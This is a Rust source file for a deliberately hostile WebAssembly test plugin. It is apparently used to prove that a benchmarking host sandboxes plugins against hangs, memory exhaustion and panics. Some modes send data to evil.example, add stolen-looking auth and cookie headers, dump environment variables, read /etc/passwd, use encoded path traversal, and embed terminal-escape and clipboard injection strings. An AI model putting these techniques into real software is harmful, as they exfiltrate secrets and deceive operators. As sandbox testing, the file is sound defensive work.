//! A test plugin that misbehaves on demand, so the host's sandboxing can be
//! proven. Without a mode it is a minimal, correct OpenAI-style plugin.
//!
//! The mode comes from `"hostile": "<mode>"` in the params JSON (read by
//! `validate-params` and `build-request`) or from an `x-hostile: <mode>`
//! response header (read by the parser constructor). The parser runs in
//! another instance than `build-request` (contract 0.5.0), so the mode
//! travels to it in the parser note.
//!
//! `tests/plugins/hostile-sleepy` builds this same source with the
//! `sleepy-info` feature, under which `info` sleeps for an hour: the host
//! calls `info` on load, before any request could name a mode.

use std::cell::RefCell;
use std::hint::black_box;
use std::sync::atomic::{AtomicU8, Ordering};
use std::time::{Duration, Instant};

use serde_json::{Value, json};

wit_bindgen::generate!({ path: "../../../wit", world: "plugin" });

use exports::genai_bench::backend::backend::{Guest, GuestResponseParser};
use genai_bench::backend::host;
use genai_bench::backend::types::{
    AuthHeader, AuthScheme, BuiltRequest, Event, HttpRequest, LogLevel, PluginInfo, Request,
    ResponseHead, Task, Usage,
};

macro_rules! modes {
    ($($variant:ident = $name:literal,)*) => {
        #[derive(Clone, Copy, PartialEq, Eq, Debug)]
        #[repr(u8)]
        enum Mode {
            None,
            $($variant,)*
        }

        const MODES: &[Mode] = &[Mode::None, $(Mode::$variant,)*];

        impl Mode {
            fn parse(name: &str) -> Option<Mode> {
                match name {
                    $($name => Some(Mode::$variant),)*
                    _ => None,
                }
            }

            fn names() -> &'static [&'static str] {
                &[$($name,)*]
            }
        }
    };
}

modes! {
    LoopBuild = "loop-build",
    LoopFeed = "loop-feed",
    AllocBuild = "alloc-build",
    AllocFeed = "alloc-feed",
    RecurseFeed = "recurse-feed",
    PanicBuild = "panic-build",
    PanicNew = "panic-new",
    PanicFeed = "panic-feed",
    HugeBody = "huge-body",
    ManyHeaders = "many-headers",
    ManyEvents = "many-events",
    AbsUrl = "abs-url",
    OtherHost = "other-host",
    AuthHeader = "auth-header",
    HostHeader = "host-header",
    CookieHeader = "cookie-header",
    ProxyHeader = "proxy-header",
    ReadEnv = "read-env",
    ReadFile = "read-file",
    LogFlood = "log-flood",
    SlowFeed = "slow-feed",
    ErrBuild = "err-build",
    LogBody = "log-body",
    TrapSome = "trap-some",
    SleepValidate = "sleep-validate",
    SleepBuild = "sleep-build",
    SleepNew = "sleep-new",
    SleepFeed = "sleep-feed",
    SleepFinish = "sleep-finish",
    SleepDrop = "sleep-drop",
    BlockFeed = "block-feed",
    PollFeed = "poll-feed",
    ClockSpinFeed = "clock-spin-feed",
    TextFlood = "text-flood",
    EventFlood = "event-flood",
    RandomLoop = "random-loop",
    RandomBig = "random-big",
    RandomReport = "random-report",
    FillLoop = "fill-loop",
    ForgeErr = "forge-err",
    BigHeader = "big-header",
    ManySmallHeaders = "many-small-headers",
    LowerMethod = "lower-method",
    ConnectMethod = "connect-method",
    TraceMethod = "trace-method",
    OddMethod = "odd-method",
    EncodedDotdot = "encoded-dotdot",
    EncodedSlash = "encoded-slash",
    BackslashEnc = "backslash-enc",
    WrongLists = "wrong-lists",
    LateLists = "late-lists",
    HoldBuild = "hold-build",
    HugeNote = "huge-note",
}

/// The mode of this instance's request, as a `Mode` discriminant.
static MODE: AtomicU8 = AtomicU8::new(Mode::None as u8);

/// Set by `trap-some` for the requests whose parser must trap.
static TRAP_THIS: AtomicU8 = AtomicU8::new(0);

/// FNV-1a of the prompt: `trap-some` traps when it is 0 mod 10, so a test
/// can tell from the prompts a server received which requests trapped.
fn fnv1a(bytes: &[u8]) -> u64 {
    bytes.iter().fold(0xcbf2_9ce4_8422_2325, |h, &b| {
        (h ^ u64::from(b)).wrapping_mul(0x100_0000_01b3)
    })
}

fn mode() -> Mode {
    MODES
        .get(usize::from(MODE.load(Ordering::Relaxed)))
        .copied()
        .unwrap_or(Mode::None)
}

fn set_mode(mode: Mode) {
    MODE.store(mode as u8, Ordering::Relaxed);
}

/// The mode named by the params' `hostile` key.
fn mode_from_params(params_json: &str) -> Result<Mode, String> {
    if params_json.trim().is_empty() {
        return Ok(Mode::None);
    }
    let params: Value =
        serde_json::from_str(params_json).map_err(|e| format!("params are not JSON: {e}"))?;
    match params.get("hostile") {
        None => Ok(Mode::None),
        Some(Value::String(name)) => Mode::parse(name).ok_or_else(|| {
            format!(
                "unknown hostile mode {name:?}; known: {}",
                Mode::names().join(", ")
            )
        }),
        Some(other) => Err(format!("`hostile` must be a mode name, got {other}")),
    }
}

/// Never returns; `black_box` keeps the loop from being optimised away.
fn spin() -> ! {
    let mut i = 0u64;
    loop {
        i = black_box(i).wrapping_add(1);
    }
}

/// What `hold-build` keeps for the rest of the instance's life.
static HELD: std::sync::Mutex<Vec<u8>> = std::sync::Mutex::new(Vec::new());

/// MiB `hold-build` allocates: under the default per-instance cap, so only
/// a budget over all instances can stop many of them together.
const HOLD_MIB: usize = 48;

/// Allocates and touches HOLD_MIB and keeps it until the instance goes,
/// then behaves: every call stays within its limits.
fn hold() {
    let mut block = vec![0u8; HOLD_MIB << 20];
    for i in (0..block.len()).step_by(4096) {
        block[i] = 1;
    }
    *HELD.lock().unwrap_or_else(|e| e.into_inner()) = black_box(block);
}

/// Allocates and touches 1 MiB blocks forever, keeping them all.
fn hoard() -> ! {
    let mut kept: Vec<Vec<u8>> = Vec::new();
    loop {
        let mut block = vec![0u8; 1 << 20];
        // Write every page so the memory is really committed.
        for i in (0..block.len()).step_by(4096) {
            block[i] = 1;
        }
        kept.push(black_box(block));
    }
}

/// Unbounded recursion; the addition after the call prevents tail calls and
/// the array keeps each frame large.
fn recurse(depth: u64) -> u64 {
    let frame = black_box([depth; 32]);
    // Unreachable in practice; it keeps rustc from flagging unconditional
    // recursion.
    if depth == u64::MAX {
        return 0;
    }
    recurse(depth + 1).wrapping_add(frame[(depth % 32) as usize])
}

/// Busy-waits about 2 ms without clocks (the plugin has none).
fn busy_wait_2ms() {
    let mut i = 0u64;
    while black_box(i) < SLOW_FEED_ITERATIONS {
        i += 1;
    }
}

/// Iterations of `busy_wait_2ms`'s loop that take about 2 ms: measured at
/// 1.97 ms per feed under wasmtime 50 (cranelift, x86-64).
const SLOW_FEED_ITERATIONS: u64 = 2_000_000;

/// Sleeps an hour; on wasm32-wasip2 std does this with
/// `monotonic-clock.subscribe-duration` and `pollable.block`, so only the
/// host's deadline can end it.
fn sleep_hour() {
    std::thread::sleep(Duration::from_secs(3600));
}

/// Blocks on a pollable that never becomes ready, through the WASI import
/// directly rather than std's sleep.
fn block_forever() {
    wasip2::clocks::monotonic_clock::subscribe_duration(u64::MAX).block();
}

/// Waits in `wasi:io/poll.poll` on one pollable that never becomes ready.
fn poll_forever() {
    let never = wasip2::clocks::monotonic_clock::subscribe_duration(u64::MAX);
    black_box(wasip2::io::poll::poll(&[&never]));
}

/// Busy-waits for 100 ms of clock time; the host freezes the clocks, so only
/// its deadline can end this.
fn clock_spin() {
    let start = Instant::now();
    while black_box(start.elapsed()) < Duration::from_millis(100) {}
}

/// Asks for 64 MiB of insecure random bytes forever, so the host has to
/// bound each call's allocation and still interrupt the loop.
fn random_loop() -> ! {
    loop {
        black_box(wasip2::random::insecure::get_insecure_random_bytes(
            64 << 20,
        ));
    }
}

/// Fills one 64 MiB buffer forever: a single `memory.fill` (bulk memory)
/// does a lot of work per instruction, which an interrupt must still stop.
fn fill_loop() -> ! {
    let mut buf = vec![0u8; 64 << 20];
    let mut byte = 0u8;
    loop {
        byte = byte.wrapping_add(1);
        // SAFETY: the pointer and length are those of `buf`, which is
        // initialised and exclusively borrowed here.
        unsafe { std::ptr::write_bytes(buf.as_mut_ptr(), black_box(byte), buf.len()) };
        black_box(&mut buf);
    }
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// Log-forging text: a fake log line after a newline, a Unicode line
/// separator, a bidi override and terminal escapes (clear screen, set title).
const FORGED_ERROR: &str = "refused\n2026-12-02T00:00:00Z  INFO genai_bench: forged line\u{2028}second\u{202e}reversed\u{1b}[2J\u{1b}]0;title\u{7}";

/// Terminal injection through metadata the host prints: a window title, a
/// line erase and carriage return to overprint a fake checksum, bidi and
/// line-separator controls, and an OSC 52 clipboard write.
const HOSTILE_DESCRIPTION: &str = "Test plugin that misbehaves on demand\u{1b}]0;pwned\u{7}\u{1b}[2K\rsha256 0000000000000000000000000000000000000000000000000000000000000000 (verified)\u{202e}\u{2028}\n\u{1b}]52;c;cHduZWQ=\u{7}";

fn env_dump() -> String {
    std::env::vars()
        .map(|(k, v)| format!("{k}={v}"))
        .collect::<Vec<_>>()
        .join("\n")
}

fn file_report() -> String {
    match std::fs::read_to_string("/etc/passwd") {
        Ok(text) => format!("read /etc/passwd: Ok({text})"),
        Err(e) => format!("read /etc/passwd: Err({e})"),
    }
}

fn flood_log() {
    // ANSI colour, cursor movement, bell, NUL and other control characters.
    let unit = "\u{1b}[31mRED\u{1b}[0m\u{1b}[2J\u{7}\u{0}\r\u{8}\u{1b}]0;title\u{7}\t\u{7f}";
    let message = unit.repeat(10 * 1024 / unit.len() + 1);
    for _ in 0..100_000 {
        host::log(LogLevel::Error, &message);
    }
}

struct Component;

impl Guest for Component {
    type ResponseParser = ResponseParser;

    fn info() -> PluginInfo {
        // hostile-sleepy: the host must time out loading the plugin.
        #[cfg(feature = "sleepy-info")]
        sleep_hour();
        PluginInfo {
            name: "hostile".to_owned(),
            version: "0.1.0".to_owned(),
            description: HOSTILE_DESCRIPTION.to_owned(),
            tasks: vec![
                Task::TextToText,
                Task::ImageTextToText,
                Task::TextToEmbeddings,
            ],
            auth: Some(AuthScheme::Header(AuthHeader {
                name: "Authorization".to_owned(),
                prefix: "Bearer ".to_owned(),
            })),
            backends: Vec::new(),
        }
    }

    fn validate_params(params_json: String) -> Result<(), String> {
        if mode_from_params(&params_json)? == Mode::SleepValidate {
            sleep_hour();
        }
        Ok(())
    }

    fn build_request(request: Request) -> Result<BuiltRequest, String> {
        let http = Component::build(request)?;
        let note = if mode() == Mode::HugeNote {
            "n".repeat(1025)
        } else {
            // What the parser's instance must know of this request.
            format!(
                "{} {}",
                MODE.load(Ordering::Relaxed),
                TRAP_THIS.load(Ordering::Relaxed)
            )
        };
        Ok(BuiltRequest {
            http,
            parser_note: note,
        })
    }
}

impl Component {
    fn build(request: Request) -> Result<HttpRequest, String> {
        let mut mode = mode_from_params(&request.params_json)?;
        // `"hostile_share": N` attacks only with the requests whose prompt
        // hashes to 0 mod N, so a run mixes attacks and honest requests.
        let share = serde_json::from_str::<Value>(&request.params_json)
            .ok()
            .and_then(|p| p.get("hostile_share").and_then(Value::as_u64))
            .filter(|n| *n > 0);
        if let Some(n) = share
            && !fnv1a(request.prompt.as_bytes()).is_multiple_of(n)
        {
            mode = Mode::None;
        }
        set_mode(mode);
        let trap = mode == Mode::TrapSome && fnv1a(request.prompt.as_bytes()).is_multiple_of(10);
        TRAP_THIS.store(u8::from(trap), Ordering::Relaxed);
        let embeddings = matches!(request.task, Task::TextToEmbeddings);
        let mut path = if embeddings {
            "/v1/embeddings"
        } else {
            "/v1/chat/completions"
        }
        .to_owned();
        let mut method = "POST";
        let mut headers = vec![("Content-Type".to_owned(), "application/json".to_owned())];
        let mut body = if embeddings {
            json!({"model": request.model, "input": request.documents})
        } else {
            json!({
                "model": request.model,
                "messages": [{"role": "user", "content": request.prompt}],
                "max_tokens": request.max_tokens,
                "stream": request.stream,
            })
        };
        match mode {
            Mode::LoopBuild => spin(),
            Mode::AllocBuild => hoard(),
            Mode::HoldBuild => hold(),
            Mode::PanicBuild => panic!("hostile: panic in build-request on purpose"),
            Mode::ErrBuild => return Err("refused on purpose".to_owned()),
            Mode::HugeBody => {
                return Ok(HttpRequest {
                    method: "POST".to_owned(),
                    path,
                    headers,
                    body: vec![b' '; 100 * 1024 * 1024],
                });
            }
            Mode::ManyHeaders => {
                headers.extend((0..10_000).map(|i| (format!("X-Hostile-{i}"), i.to_string())));
            }
            Mode::AbsUrl => path = "http://evil.example/steal".to_owned(),
            Mode::OtherHost => path = "//evil.example/x".to_owned(),
            Mode::AuthHeader => {
                headers.push(("Authorization".to_owned(), "Bearer stolen".to_owned()));
            }
            Mode::HostHeader => headers.push(("Host".to_owned(), "evil.example".to_owned())),
            Mode::CookieHeader => headers.push(("Cookie".to_owned(), "session=stolen".to_owned())),
            Mode::ProxyHeader => {
                headers.push((
                    "Proxy-Authorization".to_owned(),
                    "Basic c3RvbGVu".to_owned(),
                ));
            }
            Mode::ReadEnv => body["env"] = Value::String(env_dump()),
            Mode::ReadFile => body["file"] = Value::String(file_report()),
            Mode::LogFlood => flood_log(),
            Mode::SleepBuild => sleep_hour(),
            Mode::RandomReport => {
                body["random"] = Value::String(hex(&wasip2::random::random::get_random_bytes(16)));
                body["insecure_random"] = Value::String(hex(
                    &wasip2::random::insecure::get_insecure_random_bytes(16),
                ));
            }
            Mode::ForgeErr => return Err(FORGED_ERROR.to_owned()),
            Mode::BigHeader => headers.push(("X-Big".to_owned(), "a".repeat(10 << 20))),
            // Few enough for a count cap of 64, too many bytes for 64 KiB.
            Mode::ManySmallHeaders => {
                headers.extend((0..60).map(|i| (format!("X-H-{i}"), "a".repeat(2000))));
            }
            Mode::LowerMethod => method = "post",
            Mode::ConnectMethod => method = "CONNECT",
            Mode::TraceMethod => method = "trace",
            Mode::OddMethod => method = "FROB",
            Mode::EncodedDotdot => path = "/..%2f..%2fadmin".to_owned(),
            Mode::EncodedSlash => path = "/v1%2f..%2fadmin".to_owned(),
            Mode::BackslashEnc => path = "/v1/%5c..%5cadmin".to_owned(),
            _ => {}
        }
        Ok(HttpRequest {
            method: method.to_owned(),
            path,
            headers,
            body: body.to_string().into_bytes(),
        })
    }
}

struct ResponseParser(RefCell<State>);

struct State {
    status: u16,
    stream: bool,
    buf: Vec<u8>,
    /// The env or file report is sent once, with the first events.
    reported: bool,
}

impl GuestResponseParser for ResponseParser {
    fn new(head: ResponseHead, parser_note: String) -> Self {
        let mut note = parser_note.split(' ').map(|n| n.parse::<u8>().unwrap_or(0));
        MODE.store(note.next().unwrap_or(0), Ordering::Relaxed);
        TRAP_THIS.store(note.next().unwrap_or(0), Ordering::Relaxed);
        let from_header = head
            .headers
            .iter()
            .find(|(name, _)| name == "x-hostile")
            .and_then(|(_, value)| Mode::parse(value.trim()));
        if let Some(mode) = from_header {
            set_mode(mode);
            // Build-request floods for a params mode; this covers the header.
            if mode == Mode::LogFlood {
                flood_log();
            }
        }
        match mode() {
            Mode::PanicNew => panic!("hostile: panic in the parser constructor on purpose"),
            Mode::SleepNew => sleep_hour(),
            _ => {}
        }
        ResponseParser(RefCell::new(State {
            status: head.status,
            stream: head.stream,
            buf: Vec::new(),
            reported: false,
        }))
    }

    fn feed(&self, bytes: Vec<u8>, ends: Vec<u32>) -> Result<Vec<Vec<Event>>, String> {
        let mut out = Vec::with_capacity(ends.len());
        let mut from = 0usize;
        for (i, end) in ends.into_iter().enumerate() {
            let end = end as usize;
            let chunk = bytes.get(from..end).ok_or("bad chunk ends")?;
            out.push(self.feed_chunk(chunk, i == 0)?);
            from = end;
        }
        // One list short: the host must not pair events with the wrong
        // chunks' times.
        if mode() == Mode::WrongLists {
            out.pop();
        }
        // Every event of the call in its last list: right events, wrong
        // times (what `plugin check` must catch).
        if mode() == Mode::LateLists && out.len() > 1 {
            let all: Vec<Event> = out.iter_mut().flat_map(std::mem::take).collect();
            if let Some(last) = out.last_mut() {
                *last = all;
            }
        }
        Ok(out)
    }

    fn finish(&self) -> Result<Vec<Event>, String> {
        self.finish_body()
    }
}

impl ResponseParser {
    /// One chunk of a `feed` call. The attacks (loops, sleeps, floods of
    /// one call's caps) run once per call, with its first chunk; `slow-feed`
    /// and `log-body`, a slow or careless parser, act on every chunk.
    fn feed_chunk(&self, chunk: &[u8], first: bool) -> Result<Vec<Event>, String> {
        let mode = mode();
        let per_chunk = matches!(mode, Mode::SlowFeed | Mode::LogBody);
        if !first && !per_chunk {
            return self.parse_chunk(chunk);
        }
        match mode {
            Mode::LoopFeed => spin(),
            Mode::AllocFeed => hoard(),
            Mode::RecurseFeed => {
                black_box(recurse(0));
            }
            Mode::PanicFeed => panic!("hostile: panic in feed on purpose"),
            Mode::ManyEvents => {
                return Ok(vec![Event::Content("x".to_owned()); 1_000_000]);
            }
            Mode::SlowFeed => busy_wait_2ms(),
            Mode::SleepFeed => sleep_hour(),
            Mode::BlockFeed => block_forever(),
            Mode::PollFeed => poll_forever(),
            Mode::ClockSpinFeed => clock_spin(),
            // 15 MiB in one event, to test a per-event or per-call text cap.
            Mode::TextFlood => return Ok(vec![Event::Content("x".repeat(15 << 20))]),
            Mode::EventFlood => return Ok(vec![Event::Content("x".to_owned()); 65_000]),
            Mode::RandomLoop => random_loop(),
            Mode::RandomBig => {
                let bytes = wasip2::random::random::get_random_bytes(1 << 40);
                return Ok(vec![Event::Content(bytes.len().to_string())]);
            }
            Mode::FillLoop => fill_loop(),
            Mode::TrapSome if TRAP_THIS.load(Ordering::Relaxed) == 1 => {
                panic!("hostile: trap on purpose for this prompt")
            }
            // Quotes the server in its log, as a careless plugin would.
            Mode::LogBody => host::log(
                LogLevel::Warn,
                &format!("server said: {}", String::from_utf8_lossy(chunk)),
            ),
            _ => {}
        }
        self.parse_chunk(chunk)
    }

    fn parse_chunk(&self, chunk: &[u8]) -> Result<Vec<Event>, String> {
        let mut state = self.0.borrow_mut();
        let mut out = state.report();
        state.buf.extend_from_slice(chunk);
        if state.status / 100 == 2 && state.stream {
            // Complete lines only, so chunking does not change the events.
            while let Some(i) = state.buf.iter().position(|&b| b == b'\n') {
                let line: Vec<u8> = state.buf.drain(..=i).collect();
                sse_line(&line, &mut out)?;
            }
        }
        Ok(out)
    }

    fn finish_body(&self) -> Result<Vec<Event>, String> {
        if mode() == Mode::SleepFinish {
            sleep_hour();
        }
        let mut state = self.0.borrow_mut();
        let mut out = state.report();
        let buf = std::mem::take(&mut state.buf);
        if state.status / 100 != 2 {
            out.push(Event::Error(genai_bench::backend::types::ApiError {
                code: Some(i32::from(state.status)),
                message: String::from_utf8_lossy(&buf)
                    .trim()
                    .chars()
                    .take(500)
                    .collect(),
            }));
        } else if state.stream {
            sse_line(&buf, &mut out)?;
        } else {
            let body: Value =
                serde_json::from_slice(&buf).map_err(|e| format!("response is not JSON: {e}"))?;
            if let Some(text) = body["choices"][0]["message"]["content"].as_str() {
                out.push(Event::Content(text.to_owned()));
            }
            push_usage(&body, &mut out);
            out.push(Event::End);
        }
        Ok(out)
    }
}

/// The host drops the parser after `finish` or on an error; it must bound
/// that call too.
impl Drop for ResponseParser {
    fn drop(&mut self) {
        if mode() == Mode::SleepDrop {
            sleep_hour();
        }
    }
}

impl State {
    fn report(&mut self) -> Vec<Event> {
        if self.reported {
            return Vec::new();
        }
        self.reported = true;
        match mode() {
            Mode::ReadEnv => vec![Event::Content(env_dump())],
            Mode::ReadFile => vec![Event::Content(file_report())],
            _ => Vec::new(),
        }
    }
}

fn sse_line(line: &[u8], out: &mut Vec<Event>) -> Result<(), String> {
    let line = line.trim_ascii();
    let Some(payload) = line.strip_prefix(b"data:") else {
        return Ok(());
    };
    let payload = payload.trim_ascii();
    if payload == b"[DONE]" {
        out.push(Event::End);
        return Ok(());
    }
    let data: Value = serde_json::from_slice(payload)
        .map_err(|e| format!("malformed JSON in event stream: {e}"))?;
    if let Some(text) = data["choices"][0]["delta"]["content"].as_str()
        && !text.is_empty()
    {
        out.push(Event::Content(text.to_owned()));
    }
    push_usage(&data, out);
    Ok(())
}

fn push_usage(data: &Value, out: &mut Vec<Event>) {
    let usage = &data["usage"];
    if usage.is_object() {
        out.push(Event::Usage(Usage {
            prompt_tokens: usage["prompt_tokens"].as_u64(),
            completion_tokens: usage["completion_tokens"].as_u64(),
            reasoning_tokens: usage["completion_tokens_details"]["reasoning_tokens"].as_u64(),
        }));
    }
}

export!(Component);
